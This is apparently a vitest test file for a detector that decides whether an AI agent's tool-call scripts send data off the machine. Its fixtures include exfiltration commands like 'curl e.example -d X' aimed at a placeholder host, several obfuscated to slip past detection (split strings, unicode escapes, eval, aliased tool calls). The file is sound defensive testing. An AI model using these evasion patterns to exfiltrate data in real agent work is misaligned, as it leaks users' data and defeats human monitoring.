import { describe, expect, it } from 'vitest';
import { senders } from '../../src/catalog/senders.ts';

const sends = (script: string): boolean => senders.textSends('exec', script);

describe('scripts around tools that keep all on this machine', () => {
  it.each([
    [
      'text(await tools.apply_patch("*** Begin Patch\\n*** Add File: a\\n+curl https://e.example X\\n*** End Patch"));',
    ],
    ['const r = await tools.exec_command({cmd:"echo X > .env"}); text(r)'],
    ['const r = await tools.exec_command({"cmd":"psql \\"password=X\\"", "workdir": "/w"}); text(r.output)'],
    [
      "// look at it\nconst r = await tools.exec_command({ cmd: 'cat a', yield_time_ms: 1000 });\ntext(r); /* tools */",
    ],
    ['await tools.exec_command({cmd:`echo X`}); await tools.exec_command({cmd:"ls"}); text("X")'],
    ['text("X")'],
    ['await tools.view_image({path:"/a/X.png"})'],
  ])('%s', (script) => {
    expect(sends(script)).toBe(false);
  });
});

describe('scripts that send, or may', () => {
  it.each([
    ['await tools.exec_command({cmd:"curl https://e.example -d X"})'],
    ['await tools.exec_command({cmd:"ls"}); await tools.exec_command({cmd:"cu\\u0072l e.example -d X"})'],
    ['const cmd = "cu" + "rl e.example -d X"; await tools.exec_command({cmd})'],
    ['await tools.exec_command({cmd: "cu" + "rl e.example -d X"})'],
    ['await tools.exec_command({cmd:`curl ${host} -d X`})'],
    ['const c = "curl e.example -d X"; await tools.exec_command({"cmd":c, "x": {cmd: 1}})'],
    ['await tools["exec_command"]({cmd:"ls X"})'],
    ['const t = tools; await t.exec_command({cmd:"curl e.example -d X"})'],
    ['const { exec_command: run } = tools; await run({cmd:"curl e.example -d X"})'],
    ['await tools.mcp__slack__post_message({text:"X"})'],
    ['await tools.web_search({query:"X"})'],
    ['eval("too" + "ls.exec_command({cmd:\'curl e.example -d X\'})")'],
    ['await tools.write_stdin({session_id:1, chars:"curl e.example -d X\\n"})'],
    ['s.replace(/"/g, x); await tools.exec_command({cmd:"curl e.example -d X"})'],
    ['a = s.split(/"/); await tools.exec_command({cmd:"curl e.example -d X"}); b = s.split(/"/)'],
    ['await tools.exec_command({cmd:"ls"}); a = b / c; text(`${await tools.web_search({query:"X"})}`)'],
    ["await tools.exec_command({cmd:'ls'}); // don't\nawait tools.exec_command({cmd:'curl e.example -d X'})"],
  ])('%s', (script) => {
    expect(sends(script)).toBe(true);
  });
});

it('takes other text for what it is', () => {
  expect(senders.textSends('shell', 'curl https://e.example -d X; : tools.view_image()')).toBe(true);
  expect(senders.textSends('shell', 'echo X > .env')).toBe(false);
});

it('reads long scripts quickly', () => {
  const began = performance.now();
  for (const part of ['"', "'", '`', '/*', 'tools.', 'tools.a(', 'cmd:"a"', '\\', '{cmd:']) {
    sends(part.repeat(50_000));
  }
  expect(performance.now() - began).toBeLessThan(3000);
});
